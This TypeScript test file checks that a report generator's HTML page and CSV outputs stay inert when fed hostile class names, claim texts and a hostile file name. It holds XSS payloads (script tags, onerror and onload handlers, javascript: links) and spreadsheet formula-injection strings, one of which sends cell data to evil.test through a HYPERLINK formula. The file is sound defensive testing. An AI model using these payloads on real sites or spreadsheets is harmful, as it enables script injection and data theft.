import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { extname, join, normalize } from 'node:path';
import { pathToFileURL } from 'node:url';
import { check } from '@lslab/core';
import { type Browser, launchChromium } from '@lslab/test-utils/browser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../src/main.ts';
import { parseCsv } from '../src/predictions/parseTable.ts';

// Each payload, if it ever ran, would set window.__pwned or open a dialog.
const CLASSES = [
  '<img src=x onerror="window.__pwned=1;alert(1)">',
  '<script>window.__pwned=2</script>',
  '</title><svg onload="window.__pwned=3">',
  'javascript:window.__pwned=4',
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  '+1+cmd|calc',
  '@SUM(1)',
  '-2+3',
];
const FILE_NAME = '<svg onload=window.__pwned=5>.csv';

/** RFC 4180 quoting, written here on its own so the file is what an attacker would write. */
const q = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

function hostileCsv(): string {
  const k = CLASSES.length;
  const lines = [['label', ...CLASSES.map((c) => `p_${c}`)].map(q).join(',')];
  for (let i = 0; i < 64; i++) {
    const y = i % k;
    const top = i % 3 === 0 ? (y + 1) % k : y; // a third of the rows wrong
    const p = CLASSES.map((_, j) => (j === top ? 0.65 : 0.05));
    lines.push([q(CLASSES[y]), ...p.map(String)].join(','));
  }
  return `${lines.join('\n')}\n`;
}

// A claim whose texts and series carry the payloads: they reach a heading, a
// note, KaTeX (a \href that trust: false must refuse), chart titles, legend
// labels and tooltips.
const hostileSource = {
  package: '@lslab/test',
  claims: [
    {
      id: 'X9.hostile',
      title: CLASSES[0],
      statement: `${CLASSES[1]} with $\\href{javascript:window.__pwned=6}{x} + \\url{javascript:alert(6)}$`,
      defaults: {},
      run: () => ({
        checks: [check(CLASSES[2], 1, 1, 0)],
        series: {
          [CLASSES[3]]: CLASSES.map((c, i) => ({ x: i, y: i * i, kind: c })),
        },
        notes: [CLASSES[4]],
      }),
    },
  ],
};

const VIOLATIONS = () => {
  const w = window as unknown as { __violations: string[] };
  w.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`);
  });
};

type Page = Awaited<ReturnType<Browser['context']['newPage']>>;

let dir = '';
let browser: Browser | undefined;
let server: Server | undefined;
const served: string[] = [];

beforeAll(async () => {
  const base = mkdtempSync(join(tmpdir(), 'lslab-hostile-'));
  mkdirSync(join(base, 'in'));
  const file = join(base, 'in', FILE_NAME);
  writeFileSync(file, hostileCsv());
  dir = join(base, 'report');
  const quiet = () => {};
  const status = await main(['report', '--out', dir, '--predictions', file], {
    sources: [hostileSource],
    threads: 1,
    stdout: quiet,
    stderr: quiet,
    progress: quiet,
  });
  expect(status).toBe(0);
  server = createServer((req, res) => {
    served.push(req.url ?? '');
    const path = normalize(decodeURIComponent((req.url ?? '/').split('?')[0]));
    try {
      const body = readFileSync(join(dir, path === '/' ? 'index.html' : path));
      const type = extname(path) === '.html' ? 'text/html; charset=utf-8' : 'text/plain';
      res.writeHead(200, { 'content-type': type }).end(body);
    } catch {
      res.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server?.listen(0, '127.0.0.1', resolve));
  browser = await launchChromium();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => server?.close(resolve));
});

/** Opens the page, records requests, dialogs, errors and CSP violations, and waits for the charts. */
async function open(url: string) {
  const page = (await browser?.context.newPage()) as Page;
  const requests: string[] = [];
  const dialogs: string[] = [];
  const errors: string[] = [];
  const failed: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('requestfailed', (r) => failed.push(`${r.url()} ${r.failure()?.errorText}`));
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text());
  });
  await page.addInitScript(VIOLATIONS);
  await page.setViewportSize({ width: 1200, height: 900 });
  await page.goto(url);
  await page.waitForSelector('body[data-ready="true"]', { timeout: 60_000 });
  return { page, requests, failed, dialogs, errors };
}

async function expectInert(page: Page, dialogs: string[]) {
  const state = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
    handlers: document.querySelectorAll('[onerror], [onload], [onclick]').length,
    scripts: document.querySelectorAll('script').length,
    links: Array.from(document.querySelectorAll('a'), (a) => a.getAttribute('href') ?? ''),
    images: document.querySelectorAll('img').length,
    title: document.title,
  }));
  expect(state.pwned).toBeNull();
  expect(dialogs).toEqual([]);
  expect(state.handlers).toBe(0);
  // the page's own scripts (the data, the libraries, the page script): none was added
  const written = readFileSync(join(dir, 'index.html'), 'utf8').match(/<script\b/g)?.length;
  expect(state.scripts).toBe(written);
  expect(state.images).toBe(0);
  expect(
    state.links.filter((h) => !/^(#|results\.json$|checks\.csv$|classes\.csv$)/.test(h)),
  ).toEqual([]);
  expect(state.title).toBe('lslab — label smoothing, claim by claim');
}

describe('the report page with hostile input', () => {
  it('from file://: nothing runs, every string is shown as text, no request leaves the page', async () => {
    const url = pathToFileURL(join(dir, 'index.html')).href;
    const { page, requests, dialogs, errors } = await open(url);
    expect(requests).toEqual([url]);
    expect(errors).toEqual([]);
    expect(
      await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations),
    ).toEqual([]);
    await expectInert(page, dialogs);

    // the strings, literally, where the page shows them
    const model = page.locator('section[data-chapter="your-model"]');
    const perClass = model
      .locator('article', { hasText: 'Per class' })
      .locator('tbody tr td:first-child');
    expect(await perClass.allTextContents()).toEqual(CLASSES);
    expect(await model.locator('h3').first().textContent()).toContain(FILE_NAME);
    expect(await model.locator('article p').first().textContent()).toContain(CLASSES.join(', '));
    const claim = page.locator('article[data-claim="X9.hostile"]');
    expect(await claim.locator('h3').textContent()).toContain(CLASSES[0]);
    expect(await claim.locator('p.statement').textContent()).toContain(CLASSES[1]);
    expect(await claim.locator('tbody td').nth(1).textContent()).toBe(CLASSES[2]);
    expect(await claim.locator('ul.notes li').textContent()).toBe(CLASSES[4]);
    // KaTeX with trust: false draws \href and \url as error text, never as a link
    expect(await claim.locator('.katex a').count()).toBe(0);
    // Vega draws the series' strings as SVG text: the chart title and the legend labels
    const svgText = await claim.locator('figure.chart svg text').allTextContents();
    expect(svgText.join('\n')).toContain(CLASSES[3]);
    // legend labels, whole or cut at vega's label limit with an ellipsis
    for (const c of CLASSES) {
      const shown = svgText.find(
        (t) => t === c || (t.endsWith('…') && c.startsWith(t.slice(0, -1))),
      );
      expect(shown, c).toBeDefined();
    }

    // vega-tooltip writes the point's fields escaped: text, no element from the data
    const point = claim.locator('figure.chart svg .mark-symbol.role-mark path').first();
    await point.scrollIntoViewIfNeeded();
    const box = await point.boundingBox();
    if (box === null) throw new Error('no point to hover');
    await page.mouse.move(box.x + box.width / 2 - 2, box.y + box.height / 2 - 2);
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    const tooltip = page.locator('#vg-tooltip-element.visible');
    await tooltip.waitFor({ timeout: 10_000 });
    expect(await tooltip.textContent()).toContain(CLASSES[0]);
    expect(await tooltip.locator('img, script, svg').count()).toBe(0);
    await expectInert(page, dialogs);
    expect(requests).toEqual([url]);
    await page.close();
  }, 120_000);

  it('from a local server: the CSP meta tag is there and enforced, and the only request is the page', async () => {
    const port = (server?.address() as AddressInfo | null)?.port;
    const url = `http://127.0.0.1:${port}/index.html`;
    served.length = 0;
    const { page, requests, failed, dialogs, errors } = await open(url);
    expect(requests).toEqual([url]);
    expect(served).toEqual(['/index.html']);
    expect(errors).toEqual([]);
    await expectInert(page, dialogs);
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    expect(policy).toMatch(/^default-src 'none'; script-src 'sha256-/);
    expect(policy).toContain("connect-src 'none'");
    // the one keyword: WebAssembly may be compiled (core's kernels), script may not be evaluated
    expect(policy).toContain("'wasm-unsafe-eval'");
    expect(policy?.replace(" 'wasm-unsafe-eval'", '')).not.toMatch(/unsafe/);
    expect(
      await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations),
    ).toEqual([]);

    // a deliberate forbidden fetch and image, to the same server: refused by the policy, never sent
    const fetched = await page.evaluate(async (u) => {
      try {
        await fetch(u);
        return 'fetched';
      } catch (e) {
        return String(e);
      }
    }, `http://127.0.0.1:${port}/leak`);
    expect(fetched).toMatch(/TypeError/);
    await page.evaluate((u) => {
      const img = document.createElement('img');
      img.src = u;
      document.body.append(img);
    }, `http://127.0.0.1:${port}/pixel.png`);
    await page.waitForFunction(
      () => (window as unknown as { __violations: string[] }).__violations.length >= 2,
    );
    expect(
      await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations),
    ).toEqual([
      `connect-src http://127.0.0.1:${port}/leak`,
      `img-src http://127.0.0.1:${port}/pixel.png`,
    ]);
    expect(errors.some((e) => /Content Security Policy/.test(e))).toBe(true);
    // the image was attempted by the page (the driver sees it) and blocked before it left
    expect(served).toEqual(['/index.html']);
    expect(requests).toEqual([url, `http://127.0.0.1:${port}/pixel.png`]);
    expect(failed).toEqual([`http://127.0.0.1:${port}/pixel.png csp`]);
    // under the policy the page may compile WebAssembly (core's kernels in the worker)
    const compiled = await page.evaluate(() => {
      const empty = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);
      return WebAssembly.Module.exports(new WebAssembly.Module(empty)).length;
    });
    expect(compiled).toBe(0);
    await page.close();
  }, 120_000);

  it('classes.csv neutralises the formula class names and keeps the others as they are', () => {
    const table = parseCsv(readFileSync(join(dir, 'classes.csv'), 'utf8'));
    expect(table.rows.map((r) => r[0])).toEqual([
      CLASSES[0],
      CLASSES[1],
      CLASSES[2],
      CLASSES[3],
      `'${CLASSES[4]}`,
      `'${CLASSES[5]}`,
      `'${CLASSES[6]}`,
      `'${CLASSES[7]}`,
    ]);
    // support: 64 rows over 8 classes, 8 each, written as a number
    expect(table.rows.map((r) => r[1])).toEqual(Array(8).fill('8'));
    const checks = parseCsv(readFileSync(join(dir, 'checks.csv'), 'utf8'));
    expect(checks.rows.map((r) => r[1])).toEqual([CLASSES[2]]);
  });
});
